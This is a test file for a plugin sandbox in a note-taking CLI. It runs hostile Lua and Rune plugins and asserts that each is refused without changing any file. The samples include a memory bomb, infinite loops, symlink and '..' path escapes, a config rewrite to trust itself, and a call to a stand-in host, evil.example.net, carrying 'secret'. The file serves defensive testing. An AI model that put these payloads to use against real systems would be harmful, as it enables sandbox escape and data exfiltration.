/**
 * A catalogue of hostile plugins run through the real CLI, each in a fresh hostile world: the
 * attack must end in the expected refusal, the host must carry on (a clean exit 1 with the error
 * in `--json`, never a crash), and nothing in the kiln, the decoy folder or HOME may change.
 * These are the attacks beyond the numbered findings of the hardening review; each guards a wall
 * that held when it was written.
 */
import { match, ok, strictEqual } from "node:assert/strict";
import * as path from "node:path";
import { assertUnchanged, hostileWorld } from "./hostile.ts";

/** One attack: a plugin (Lua unless the file says otherwise) and the refusal it must meet. */
interface Attack {
  /** What the attack tries. */
  name: string;
  /** File name under `.crucible/plugins/`. */
  file: string;
  /** Extra manifest lines. */
  manifest?: string;
  /** The plugin's code. */
  code: string;
  /** The error code the run must end with. */
  code_: string;
  /** A pattern the message must match. */
  message?: RegExp;
  /** Files written into the kiln first (e.g. a symlink target note). */
  setup?: (kiln: string, decoy: string) => void;
}

const ATTACKS: Attack[] = [
  {
    name: "load a precompiled Lua binary chunk",
    file: "binchunk.lua",
    code: `function main() return tostring(load("\\27Lua\\84\\0", "x", "b")) end`,
    code_: "E_INVALID_PLUGIN",
    message: /binary chunks/,
  },
  {
    name: "reach string.dump for bytecode",
    file: "dump.lua",
    code: `function main() return string.dump(main) end`,
    code_: "E_INVALID_PLUGIN",
    message: /string\.dump/,
  },
  {
    name: "exhaust memory with a thousand 1 MB strings",
    file: "membomb.lua",
    code: `function main()
  local s, t = string.rep("x", 1024 * 1024), {}
  for i = 1, 1000 do t[i] = s .. i end
  return #t
end`,
    code_: "E_MEMORY",
  },
  {
    name: "spin forever (Rune)",
    file: "spin.rune",
    manifest: "limits: {timeout: 1s}\n",
    code: `pub fn main() { let i = 0; loop { i += 1; } }`,
    code_: "E_TIMEOUT",
  },
  {
    name: "recurse without end (Rune)",
    file: "deeprec.rune",
    code: `fn down(n) { down(n + 1) + 1 }\npub fn main() { down(0) }`,
    code_: "E_RUNTIME",
    message: /stack|deep|recursion/i,
  },
  {
    name: "return a result nested 200,000 levels deep",
    file: "deep.lua",
    code: `function main()
  local t = {}; local cur = t
  for i = 1, 200000 do local n = {}; cur[1] = n; cur = n end
  return t
end`,
    code_: "E_INVALID_VALUE",
    message: /nested/,
  },
  {
    name: "return a table that contains itself",
    file: "cycle.lua",
    code: `function main() local t = {}; t.self = t; return t end`,
    code_: "E_INVALID_VALUE",
    message: /cycle/,
  },
  {
    name: "write an 11 MB note",
    file: "bignote.lua",
    manifest: "capabilities: [KilnWrite]\n",
    code: `function main() crucible.write_note("big.md", string.rep("x", 11 * 1024 * 1024)) end`,
    code_: "E_FILE_TOO_LARGE",
  },
  {
    name: "rewrite the kiln config to trust itself",
    file: "selftrust.lua",
    manifest: "capabilities: [KilnWrite]\n",
    code:
      `function main() crucible.write_note(".crucible/config.yaml", "trusted: [selftrust]") end`,
    code_: "E_PATH",
  },
  {
    name: "read a note that is a symlink to a file outside the kiln",
    file: "linkread.lua",
    code: `function main() return crucible.read_note("link.md") end`,
    code_: "E_PATH",
    setup: (kiln, decoy) => Deno.symlinkSync(path.join(decoy, "secret.txt"), `${kiln}/link.md`),
  },
  {
    name: "call a host the manifest does not list",
    file: "exfil.lua",
    manifest: "capabilities:\n  - NetworkHttps: [example.org]\n",
    code: `function main() return crucible.http.get("https://evil.example.net/?q=secret") end`,
    code_: "E_CAPABILITY",
  },
  {
    name: "call itself through invoke_plugin",
    file: "selfcall.lua",
    manifest: "capabilities: [PluginInvoke]\n",
    code: `function main() return crucible.invoke_plugin("selfcall", {}) end`,
    code_: "E_CYCLE",
  },
  {
    name: "escape the kiln with .. in a note path",
    file: "dotdot.lua",
    manifest: "capabilities: [KilnWrite]\n",
    code: `function main() crucible.write_note("a/../../escape.md", "x") end`,
    code_: "E_PATH",
  },
  {
    name: "declare a name that walks out of the plugins folder",
    file: "traverse.lua",
    code: `function main() return 1 end`,
    code_: "E_INVALID_PLUGIN",
    message: /not lowercase letters, digits and hyphens/,
  },
];

for (const attack of ATTACKS) {
  Deno.test(`hostile plugin: ${attack.name}`, async () => {
    using w = hostileWorld({ "Home.md": "# Home\n" });
    const stem = attack.file.replace(/\.[a-z]+$/, "");
    // The traversal attack declares a name that would walk out of the plugins folder.
    const declared = stem === "traverse" ? "../../evil" : stem;
    w.kiln.write(
      `.crucible/plugins/${attack.file}`,
      `---\nname: ${declared}\ndescription: attack\n${attack.manifest ?? ""}---\n${attack.code}\n`,
    );
    attack.setup?.(w.kiln.root, w.decoy);
    const skip = ["kiln:.crucible/audit", "kiln:.crucible/index.db"];
    const before = await w.checksums({ skip });
    const r = await w.cru(["plugins", "run", stem, "--yes", "--json"]);
    strictEqual(r.code, 1, `exit ${r.code}\n${r.stdout}\n${r.stderr}`);
    const out = JSON.parse(r.stdout);
    strictEqual(out.ok, false);
    strictEqual(out.error.code, attack.code_, JSON.stringify(out.error));
    if (attack.message) match(out.error.message, attack.message);
    ok(!/bug in cru/i.test(r.stderr), r.stderr);
    assertUnchanged(before, await w.checksums({ skip }));
  });
}
